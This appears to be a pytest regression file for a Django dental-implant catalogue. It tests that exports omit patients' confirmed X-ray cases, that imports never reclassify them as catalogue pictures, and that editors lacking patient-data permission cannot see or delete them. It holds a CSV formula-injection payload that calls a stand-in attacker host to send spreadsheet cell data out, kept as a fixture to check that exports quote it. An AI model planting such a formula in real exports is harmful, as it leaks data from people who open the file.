"""Patient data in exports and the catalogue admin (issue 22): ``export_catalog`` exported
confirmed cases (patients' X-rays) as files and ``import_catalog`` of that export made them
catalogue pictures; the CSV kept ``=HYPERLINK(...)`` a formula; catalogue editors without
``view_patient_data`` saw, moved and deleted confirmed cases in the implant and reference-image
admin."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.test import Client

from implants import services
from implants.models import Implant, Manufacturer, ReferenceImage, ReferenceSource
from testkit.images import xray_file

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"clique")'


@pytest.fixture
def implant_with_a_case() -> tuple[Implant, ReferenceImage, ReferenceImage]:
    maker = Manufacturer.objects.create(name="Neodent", slug="neodent")
    implant = Implant.objects.create(
        manufacturer=maker,
        name="Drive CM",
        connection="morse_taper",
        body_shape="tapered",
        thread_shape="v",
        notes=FORMULA,
    )
    picture = services.reference_image_create(implant=implant, image_bytes=xray_file(seed=1), filename="c.png")
    case = services.reference_image_create(
        implant=implant, image_bytes=xray_file(seed=2), filename="p.png", source=ReferenceSource.CONFIRMED_CASE
    )
    return implant, picture, case


def test_export_writes_catalogue_pictures_only_and_quotes_formulas(implant_with_a_case, tmp_path):
    _, picture, case = implant_with_a_case
    exported, pictures = tmp_path / "export.csv", tmp_path / "imagens"
    call_command("export_catalog", str(exported), "--images-dir", str(pictures), stdout=io.StringIO())
    files = [p for p in pictures.rglob("*") if p.is_file()]
    assert len(files) == 1
    with picture.image.open("rb") as fh:
        assert files[0].read_bytes() == fh.read()
    (row,) = list(csv.DictReader(exported.open(encoding="utf-8")))
    assert row["notes"] == "'" + FORMULA and len(row["images"].split(";")) == 1


def test_import_never_makes_a_confirmed_case_a_catalogue_picture(implant_with_a_case, tmp_path):
    """An export written before the fix holds the patient's X-ray as a file: importing it (here
    as a new implant's picture) adds no catalogue picture, and the notes lose the export's quote."""
    _, _, case = implant_with_a_case
    folder = tmp_path / "old-export"
    (folder / "neodent" / "drive-cm").mkdir(parents=True)
    with case.image.open("rb") as fh:
        (folder / "neodent" / "drive-cm" / "2.png").write_bytes(fh.read())
    exported = tmp_path / "export.csv"
    call_command("export_catalog", str(exported), stdout=io.StringIO())
    rows = list(csv.DictReader(exported.open(encoding="utf-8")))
    rows[0].update(name="Drive CM Novo", images="neodent/drive-cm/2.png")
    with exported.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    # "Drive CM Novo" resembles "Drive CM" (implants.names): the operator says it is a new implant.
    call_command(
        "import_catalog",
        str(exported),
        "--images-dir",
        str(folder),
        "--alias",
        "Neodent: Drive CM Novo=Drive CM Novo",
        stdout=io.StringIO(),
    )
    new = Implant.objects.get(name="Drive CM Novo")
    assert new.notes == FORMULA
    assert not new.reference_images.exists()
    assert not ReferenceImage.objects.filter(source=ReferenceSource.CATALOG, content_hash=case.content_hash).exists()


def _editor() -> Client:
    user = User.objects.create_user("catalogo", "catalogo@example.com", "x-pass-123", is_staff=True)
    for model in ("implant", "referenceimage", "manufacturer"):
        for action in ("view", "change", "delete", "add"):
            user.user_permissions.add(Permission.objects.get(codename=f"{action}_{model}"))
    client = Client()
    client.force_login(user)
    return client


def test_a_catalogue_editor_never_sees_moves_or_deletes_a_confirmed_case(implant_with_a_case):
    implant, picture, case = implant_with_a_case
    editor = _editor()
    listing = editor.get("/admin/implants/referenceimage/").content.decode()
    assert f"/admin/implants/referenceimage/{picture.pk}/change/" in listing
    assert f"/admin/implants/referenceimage/{case.pk}/change/" not in listing
    assert case.image.url not in listing
    assert editor.get(f"/admin/implants/referenceimage/{case.pk}/change/").status_code in {302, 404}
    assert editor.post(f"/admin/implants/referenceimage/{case.pk}/delete/", {"post": "yes"}).status_code in {302, 404}
    page = editor.get(f"/admin/implants/implant/{implant.pk}/change/").content.decode()
    assert case.image.url not in page and picture.image.url in page
    assert editor.post(f"/admin/implants/implant/{implant.pk}/delete/", {"post": "yes"}).status_code == 403
    bulk = {"action": "delete_selected", "_selected_action": [implant.pk], "post": "yes"}
    editor.post("/admin/implants/implant/", bulk)
    assert ReferenceImage.objects.filter(pk=case.pk).exists() and Implant.objects.filter(pk=implant.pk).exists()


def test_staff_with_patient_data_see_the_confirmed_case(implant_with_a_case, admin_client):
    _, _, case = implant_with_a_case
    listing = admin_client.get("/admin/implants/referenceimage/").content.decode()
    assert f"/admin/implants/referenceimage/{case.pk}/change/" in listing
